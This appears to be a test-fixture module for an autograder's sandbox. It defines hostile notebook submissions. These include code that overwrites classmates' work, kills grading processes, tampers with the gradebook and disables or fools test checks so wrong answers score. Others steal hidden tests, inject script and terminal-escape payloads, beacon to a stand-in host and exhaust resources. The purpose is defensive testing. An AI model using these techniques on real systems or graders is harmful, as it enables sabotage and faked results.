"""Hostile submissions, one per class of attack on the grader (issue 26), for testing the grader.

Each is written as a hostile student would, against the grader as it was before the sandbox. Where an
attack reaches for the course itself it only acts on a course that holds the file TARGET, which a test
puts there and names in the grader's PYTHONPATH: a run without the sandbox then damages the test's own
course, never the checkout or another process on the machine. Built like devtools/badsubmissions.py's
CASES (from the current notebooks, at run time), with the same Case: `bad_class(root, aid, ATTACKS)`.
"""
import hashlib
import json
import os

import nbformat

from .badsubmissions import (Case, break_in, broken_function, broken_notebook, failing_tests, full_marks, losing,
                             nb_bytes, solution_cell, solved)
from grading.cells import is_graded

TARGET = "ATTACK_TARGET"
LINGER = "attack-lingers-after-grading"   # in the command line of the process attack 1 leaves behind

_FIND_COURSE = (
    "import os\n"
    "def _course():\n"
    "    for p in os.environ.get('PYTHONPATH', '').split(os.pathsep) + [os.environ.get('SPECLAB_COURSE_ROOT', '')]:\n"
    f"        if p and os.path.exists(os.path.join(p, {TARGET!r})):\n"
    "            return p\n")


def _added_cell(nb, source, at=2):
    """Insert a code cell of the student's own after the imports (before any test)."""
    nb.cells.insert(at, nbformat.v4.new_code_cell(source))
    return nb


def _with_cell(aid, nb, source):
    """The submission's files: `nb` with a code cell of the student's own added (_added_cell)."""
    return {f"{aid}.ipynb": nb_bytes(_added_cell(nb, source))}


WRONG_BODY = "return -1.0  # a wrong answer: the attacks below try to have it pass"


def _wrong(root, aid):
    """The solved notebook with the break-in exercise returning a wrong value, which the attacks try to pass."""
    return broken_notebook(root, aid, WRONG_BODY)


def wrong_value(root, aid):
    """expect(): full marks less the tests that fail when the break-in exercise returns WRONG_BODY's value."""
    name = break_in(root, aid)
    score, total = full_marks(root, aid)
    wrong = f"def {name}(*args, **kwargs):\n    {WRONG_BODY}\n"
    return score - sum(failing_tests(root, aid, name, wrong).values()), total


def _attack_escape(root, aid):
    # 1. the course root found in the kernel's environment; a classmate's submission overwritten; a
    # detached process that outlives grading and then writes into the course
    later = ("import os, sys, time\n"
             "root = sys.argv[1]\n"
             "for _ in range(600):\n"
             "    if os.path.exists(os.path.join(root, 'grades.csv')):\n"
             "        time.sleep(0.5)\n"
             "        open(os.path.join(root, 'written_after_grading.txt'), 'w').write('hello')\n"
             "        break\n"
             "    time.sleep(0.2)\n")
    code = (_FIND_COURSE + "import glob, subprocess, sys\n"
            "root = _course()\n"
            "if root:\n"
            "    for nb in glob.glob(os.path.join(root, 'submitted', 'reference', '*', '*.ipynb')):\n"
            "        open(nb, 'w').write(open(nb).read().replace('return', 'return None  #'))\n"
            f"    subprocess.Popen([sys.executable, '-c', {later!r}, root, {LINGER!r}], start_new_session=True,\n"
            "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")
    return _with_cell(aid, solved(root, aid), code)


def _attack_template(root, aid):
    # 2. the template gradebook every submission's scratch gradebook is copied from, a few levels up
    code = ("import os, sqlite3\n"
            "here = os.getcwd()\n"
            "for _ in range(8):\n"
            "    here = os.path.dirname(here)\n"
            "    db = os.path.join(here, 'template.db')\n"
            "    if os.path.exists(db):\n"
            "        con = sqlite3.connect(db)\n"
            "        con.execute(\"UPDATE source_cell SET source = 'raise AssertionError(\\\"no\\\")' WHERE locked = 1\")\n"
            "        con.commit()\n"
            "        break\n")
    return _with_cell(aid, solved(root, aid), code)


def _attack_kill(root, aid):
    # 3. the other grading workers, found through /proc (those grading this course: see TARGET) and killed
    code = (_FIND_COURSE + "import signal\n"
            "root, mine, p = _course(), set(), os.getpid()\n"
            "while p > 1:\n"
            "    mine.add(p)\n"
            "    p = int(open(f'/proc/{p}/stat').read().rsplit(')', 1)[1].split()[1])\n"
            "for pid in [int(d) for d in os.listdir('/proc') if d.isdigit()] if root else []:\n"
            "    try:\n"
            "        if pid in mine or root.encode() not in open(f'/proc/{pid}/environ', 'rb').read():\n"
            "            continue\n"
            "        parent = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
            "        for victim in (pid, parent):\n"
            "            if victim not in mine:\n"
            "                os.kill(victim, signal.SIGKILL)\n"
            "    except OSError:\n"
            "        pass\n")
    return _with_cell(aid, solved(root, aid), code)


def _attack_displayhook(root, aid):
    # 4. an execute_result before the error: nbgrader's determine_grade stops at the first one
    return broken_function(root, aid, "import sys\nsys.displayhook('ok')\nraise ValueError('not done')")


_SILENCE = "(lambda *args, **kwargs: None).__code__"
_SILENCE_CHECKS = f"import speclab.plumbing.checks as c\nc.check_close.__code__ = c.check_equal.__code__ = {_SILENCE}\n"


def _attack_code(root, aid):
    # 5. the test helpers handed to a function of the student's that replaces their code
    nb = _wrong(root, aid)
    code = ("def tidy(*helpers):\n"
            "    for h in helpers:\n"
            f"        h.__code__ = {_SILENCE}\n"
            "tidy(check_close, check_equal)\n")
    return _with_cell(aid, nb, code)


def _attack_shadow(root, aid):
    # 6. a numpy/ package beside the notebook: it loads the real numpy, then silences the test helpers
    shadow = ("import os, sys\n"
              "_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n"
              "_saved = sys.path[:]\n"
              "sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != _here]\n"
              "del sys.modules['numpy']\n"
              "import numpy as _real\n"
              "sys.path[:] = _saved\n"
              "sys.modules['numpy'] = _real\n"
              "import speclab.plumbing.checks as _c\n"
              f"_c.check_close.__code__ = _c.check_equal.__code__ = {_SILENCE}\n")
    return {f"{aid}.ipynb": nb_bytes(_wrong(root, aid)), "numpy/__init__.py": shadow.encode()}


def _attack_transformer(root, aid):
    # 7. IPython reached by import in a solution cell: an input transformer rewrites every later cell
    rewrite = ("import IPython\n"
               "IPython.get_ipython().input_transformers_post.append(lambda lines: [\n"
               "    l.replace('check_close(', '(lambda *a, **k: None)(').replace('check_equal(', '(lambda *a, **k: None)(')\n"
               "    for l in lines])\n\n")
    return broken_function(root, aid, WRONG_BODY, before=rewrite)


def _attack_capture(root, aid):
    # 8. a cell magic: its body is a string to Python, which the scan never read
    nb = _wrong(root, aid)
    code = "%%capture\n" + _SILENCE_CHECKS
    return _with_cell(aid, nb, code)


def _attack_module(root, aid):
    # 9. the same written to a module file and imported: the scan reads cells, not files
    nb = _wrong(root, aid)
    code = f"open('my_helpers.py', 'w').write({_SILENCE_CHECKS!r})\nimport my_helpers\n"
    return _with_cell(aid, nb, code)


def _attack_steal(root, aid):
    # 10. the hidden tests read from the course's solutions/ (printed, and copied beside the notebook), and
    # from the kernel's own history, after a test cell ran
    code = ("import glob, json, shutil\n"
            "for p in glob.glob('../../../solutions/*/*.ipynb') + glob.glob('/course/../solutions/*/*.ipynb'):\n"
            "    for c in json.load(open(p))['cells']:\n"
            "        if 'BEGIN HIDDEN' + ' TESTS' in ''.join(c['source']):\n"
            "            print(''.join(c['source']))\n"
            "    shutil.copy(p, 'stolen.txt')\n")
    nb = _added_cell(solved(root, aid), code)
    first = next(i for i, c in enumerate(nb.cells) if is_graded(c))
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell("print(In)"))
    return {f"{aid}.ipynb": nb_bytes(nb)}


ATTACK_DISK_MB = 100  # more than the sandbox's disk (64 MiB)


def _attack_disk(root, aid):
    # 11. a big file beside the notebook (nbgrader copies the folder into autograded/ and feedback/)
    code = (f"with open('big.bin', 'wb') as f:\n    for _ in range({ATTACK_DISK_MB}):\n"
            "        f.write(b'0' * (1 << 20))\n")
    return _with_cell(aid, solved(root, aid), code)


SCRIPT = "attack-script-ran"


def _attack_html(root, aid):
    # 12. raw <script> and onerror= in a markdown cell and in an output, for the feedback page
    nb = solved(root, aid)
    nb.cells.insert(2, nbformat.v4.new_markdown_cell(
        f'<script>alert("{SCRIPT}")</script><img src="x" onerror="alert(\'{SCRIPT}\')">'))
    nb.cells.insert(3, nbformat.v4.new_code_cell(
        f"display({{'text/html': '<img src=x onerror=\"alert(1)\"><script>alert(\"{SCRIPT}\")</script>'}}, raw=True)"))
    return {f"{aid}.ipynb": nb_bytes(nb)}


# Issue 36: submissions that inflate the records, forge the grader's messages, or break the class run.
IMAGE_MB, IMAGES = 8, 3   # three 8 MB images made a 34 MB feedback page, and as much in autograded/
FORGED = "Final score: 11 / 11"
REMOTE = "attack.invalid"   # a host that never resolves; no page may name it in what it loads


def _attack_images(root, aid):
    # 13. images: only text output was capped
    code = ("import base64, os\n"
            f"for _ in range({IMAGES}):\n"
            f"    display({{'image/png': base64.b64encode(os.urandom({IMAGE_MB} << 20)).decode()}}, raw=True)\n")
    return _with_cell(aid, solved(root, aid), code)


def _attack_surrogate(root, aid):
    # 14. a lone surrogate escaped in the notebook's JSON (valid JSON, not writable as UTF-8), and a file whose
    # name is not UTF-8 beside it: UnicodeEncodeError in make grade's own process, the class run stopped
    nb = solved(root, aid)
    nb.cells.insert(2, nbformat.v4.new_markdown_cell("my notes \ud800 (a lone surrogate)"))
    text = json_dumps(nb)
    stray = b"notes-\xff\xfe.txt".decode("utf-8", "surrogateescape")
    return {f"{aid}.ipynb": text.encode("ascii"), stray: b"a file whose name is not UTF-8\n"}


LONG_NAME = 140_000   # characters in an exception's class name: past the csv module's field limit (131,072)


def _attack_long_name(root, aid):
    # 15. an exception whose class name is longer than a CSV field may be: grades.csv was not written, and the
    # next make grade (the attacker gone) stopped reading the report the first one stored
    nb = solved(root, aid)
    cell = solution_cell(nb, break_in(root, aid))
    cell.source += f"\n\nraise type('E' * {LONG_NAME}, (Exception,), {{}})('x' * 200_000)\n"
    return {f"{aid}.ipynb": nb_bytes(nb)}


ESCAPES = "\x1b[2J\x1b[H\x1b]0;grading done\x07graded 33 of 33 submissions, none flagged\x1b[8m"


def _attack_escapes(root, aid):
    # 16. terminal escape sequences in what reaches a review note: an exception's message, a cell's id, a file
    # name: the instructor's screen cleared, its title set, a fake summary shown and the rest concealed
    nb = _added_cell(solved(root, aid), f"raise PermissionError({ESCAPES!r})")
    stray = nbformat.v4.new_code_cell("pass")
    stray.metadata["nbgrader"] = {"grade_id": ESCAPES, "solution": True, "grade": False, "locked": False,
                                  "schema_version": 3}
    nb.cells.insert(3, stray)
    return {f"{aid}.ipynb": nb_bytes(nb), f"{ESCAPES}.txt": b"hello\n"}


def _attack_forged(root, aid):
    # 17. markdown that looks like the grader speaking (the page's own alert, panel and grading-notes styles),
    # with remote images and data: links
    nb = solved(root, aid)
    nb.cells.insert(2, nbformat.v4.new_markdown_cell(
        f'<div class="alert alert-success grading-notes panel-heading score"><b>{FORGED}</b></div>\n\n'
        f'![tracker](https://{REMOTE}/pixel.png) <img src="http://{REMOTE}/p.png"> '
        f'[see my grade](data:text/html;base64,PGgxPmhpPC9oMT4=) <img src="data:image/png;base64,iVBORw0KGgo=">\n\n'
        f'<link rel="stylesheet" href="https://{REMOTE}/s.css"><style>body {{background: url(https://{REMOTE}/b)}}</style>'))
    nb.cells.insert(3, nbformat.v4.new_code_cell(
        f"display({{'text/html': '<p class=\"alert alert-success\">{FORGED}</p><img src=\"https://{REMOTE}/o.png\">'}}, "
        f"raw=True, metadata={{'text/html': {{'isolated': True}}}})"))
    return {f"{aid}.ipynb": nb_bytes(nb)}


def _attack_timestamp(root, aid):
    # 18. nbgrader's timestamp.txt (the submission time) that is not a date: accepted silently
    return {f"{aid}.ipynb": nb_bytes(solved(root, aid)), "timestamp.txt": b"yesterday, honestly\n"}


def _copy_pasted(root, aid):
    # 19. not an attack: an honest student who pasted a test cell a second time (the same grade_id twice) got
    # "failed to grade" (a KeyError)
    nb = solved(root, aid)
    first = next(i for i, c in enumerate(nb.cells) if is_graded(c))
    nb.cells.insert(first + 1, nbformat.from_dict(json.loads(json.dumps(nb.cells[first]))))
    nb.cells[first + 1].pop("id", None)
    nb.cells[first + 1]["id"] = "pasted-copy"
    return {f"{aid}.ipynb": nb_bytes(nb)}


def json_dumps(nb):
    """The notebook's JSON as nbformat writes it, ASCII only (a lone surrogate escaped, as json allows)."""
    return json.dumps(nb, indent=1, ensure_ascii=True)


FORK_CHILDREN, FORK_MIB = 8, 300  # 2.4 GiB together, each child within a kernel's address space


def _attack_fork_memory(root, aid):
    # forked children, each within the per-process memory limit, together past it (issue 36, limits)
    code = ("import os, time\n"
            "kids = []\n"
            f"for _ in range({FORK_CHILDREN}):\n"
            "    pid = os.fork()\n"
            "    if pid == 0:\n"
            "        try:\n"
            f"            block = b'x' * ({FORK_MIB} << 20)\n"
            "            time.sleep(5)\n"
            "        finally:\n"
            "            os._exit(0)\n"
            "    kids.append(pid)\n"
            "for pid in kids:\n"
            "    os.waitpid(pid, 0)\n")
    return _with_cell(aid, solved(root, aid), code)


BUSY_CHILDREN = 32


def busy_mark(root):
    """What each busy child carries in its command line: one class's mark, so that a test looking for what
    outlived its own class is not misled by another class graded at the same time (xdist workers)."""
    return "attack-busy-session-" + hashlib.sha1(os.fsencode(os.path.abspath(root))).hexdigest()[:12]


def _attack_busy_sessions(root, aid):
    # busy children, each in a session of its own: with the scheduler's autogroups each session weighs as
    # much as a classmate's whole grading (issue 36, limits)
    code = ("import subprocess, sys\n"
            f"busy = [subprocess.Popen([sys.executable, '-c', 'while True: pass', {busy_mark(root)!r}], "
            f"start_new_session=True) for _ in range({BUSY_CHILDREN})]\n")
    return _with_cell(aid, solved(root, aid), code)


# Attacks on tests that run in the student's kernel (issue 36), which the integrity scan does not see. The
# judge (grading/judge/) runs the tests in the grader instead; these show what it answers.

def _attack_forgive(root, aid):
    # 20. the IPython shell reached through getattr on builtins (a computed name), and an input transformer that
    # wraps every later cell in try/except: the tests' failures vanish, a wrong answer scores
    shell = ("_shell = getattr(__builtins__, 'get_' + 'ipython')()\n"
             "def _forgive(lines):\n"
             "    return ['try:\\n'] + ['    ' + l for l in lines] + ['\\n', 'except BaseException:\\n', '    pass\\n']\n"
             "_shell.input_transformers_post.append(_forgive)\n\n")
    return broken_function(root, aid, WRONG_BODY, before=shell)


AGREEABLE = ("class _Agreeable(float):\n"
             "    def tolist(self):  # the test helpers call it: it finds their frame and copies what they expect\n"
             "        try:\n"
             "            raise ValueError\n"
             "        except ValueError as e:\n"
             "            f = getattr(getattr(e, '__trace' + 'back__'), 'tb_' + 'frame')\n"
             "        while f is not None:\n"
             "            seen = getattr(f, 'f_' + 'locals')\n"
             "            if seen.get('actual') is self and 'expected' in seen:\n"
             "                want = seen['expected']\n"
             "                return want.tolist() if type(want).__name__ == 'ndarray' else want\n"
             "            f = getattr(f, 'f_' + 'back')\n"
             "        return float(self)\n\n")


def _attack_agreeable(root, aid):
    # 21. a wrong answer returned as a float subclass whose tolist() walks up the caller's frames (reached by
    # getattr) and hands the test helper its own expected value
    return broken_function(root, aid, "return _Agreeable(-1.0)", before=AGREEABLE)


CHUNK = 12  # characters per printed line: shorter than any line the feedback page's redaction looks for
SHOW_CELL = ("def _show_cell():\n"
             "    text = In[-1]  # IPython stores a cell in its history before running it\n"
             f"    print('\\n'.join(text[i:i + {CHUNK}] for i in range(0, len(text), {CHUNK})))\n\n")


def _attack_history(root, aid):
    # 22. a right answer that first prints the cell being run (IPython's input history) in short pieces: the
    # hidden tests that call it, readable in the feedback page
    nb = solved(root, aid)
    func = break_in(root, aid)
    cell = solution_cell(nb, func)
    lines = cell.source.splitlines()
    at = next(i for i, ln in enumerate(lines) if ln.startswith(f"def {func}("))
    cell.source = "\n".join([SHOW_CELL] + lines[:at + 1] + ["    _show_cell()"] + lines[at + 1:])
    return {f"{aid}.ipynb": nb_bytes(nb)}


ATTACKS = [
    Case("attack_escape", "finds the course in its environment, overwrites a classmate's submission and leaves a "
         "process that writes into the course after grading", _attack_escape, full_marks, "", False),
    Case("attack_template", "rewrites the template gradebook a few folders up: every later student fails every test",
         _attack_template, full_marks, "", False),
    Case("attack_kill", "finds the other grading workers through /proc and kills them", _attack_kill, full_marks,
         "", False),
    Case("attack_displayhook", "calls sys.displayhook('ok') inside a wrong exercise", _attack_displayhook,
         losing(None), "", True),
    Case("attack_code", "hands the test helpers to a function that replaces their __code__", _attack_code,
         wrong_value, "", True),
    Case("attack_shadow", "ships a numpy/ package beside the notebook that silences the test helpers",
         _attack_shadow, wrong_value, "", False),
    Case("attack_transformer", "an IPython input transformer (IPython imported in a solution cell) that rewrites the "
         "tests", _attack_transformer, wrong_value, "", True),
    Case("attack_capture", "a %%capture cell whose body silences the test helpers", _attack_capture, wrong_value,
         "", True),
    Case("attack_module", "writes a module that silences the test helpers to a file and imports it", _attack_module,
         wrong_value, "", False),
    Case("attack_steal", "reads the hidden tests from solutions/ and from the kernel's history, prints them and "
         "copies the file beside the notebook", _attack_steal, full_marks, "", False),
    Case("attack_disk", f"writes a {ATTACK_DISK_MB} MB file beside the notebook", _attack_disk, full_marks, "", False),
    Case("attack_html", "raw <script> and onerror= in a markdown cell and in an output", _attack_html, full_marks,
         "", False),
    Case("attack_fork_memory", f"forks {FORK_CHILDREN} children of {FORK_MIB} MiB each: each within the memory limit, "
         "together past it", _attack_fork_memory, full_marks, "held", False),
    Case("attack_busy_sessions", f"starts {BUSY_CHILDREN} busy children, each in a session of its own (setsid)",
         _attack_busy_sessions, full_marks, "setsid", False),
    Case("attack_images", f"displays {IMAGES} images of {IMAGE_MB} MB", _attack_images, full_marks, "image", False),
    Case("attack_surrogate", "a lone surrogate escaped in the notebook's JSON, and a file whose name is not UTF-8",
         _attack_surrogate, full_marks, "surrogate", True),
    Case("attack_long_name", f"an exercise cell that raises an exception whose class name is {LONG_NAME:,} characters",
         _attack_long_name, full_marks, "raised EEEE", False),
    Case("attack_escapes", "terminal escape sequences in an exception's message, a cell's id and a file name",
         _attack_escapes, full_marks, "\\x1b[2J", True),
    Case("attack_forged", "markdown and HTML in the page's own alert and grading-notes styles, remote images, "
         "data: links", _attack_forged, full_marks, "", False),
    Case("attack_timestamp", "a timestamp.txt that is not a date", _attack_timestamp, full_marks, "timestamp.txt",
         True),
    Case("copy_pasted", "an honest student who pasted a test cell twice (the same grade_id twice)", _copy_pasted,
         full_marks, "appear more than once", False),
]

# Issue 36: what the tests' running in the kernel let through; graded by the judge they earn nothing
KERNEL_ATTACKS = [
    Case("attack_forgive", "reaches the IPython shell by getattr on builtins and wraps every later cell in "
         "try/except", _attack_forgive, wrong_value, "", False),
    Case("attack_agreeable", "returns a float subclass whose tolist() copies the expected value from the test "
         "helper's frame", _attack_agreeable, wrong_value, "", False),
    Case("attack_history", "prints the cell being run (the hidden tests) from IPython's history, 12 characters a "
         "line", _attack_history, full_marks, "", False),
]
ATTACKS += KERNEL_ATTACKS

# The attacks on the sandbox's limits, graded in their own class beside an honest classmate
# (tests/grading/test_limits.py), not in the big class of tests/grading/test_grading_class.py: their 32 busy
# children and the forks' memory cost that class ~50 of its ~300 worker-seconds, and the one class checks both.
LIMITS = ("attack_fork_memory", "attack_busy_sessions")
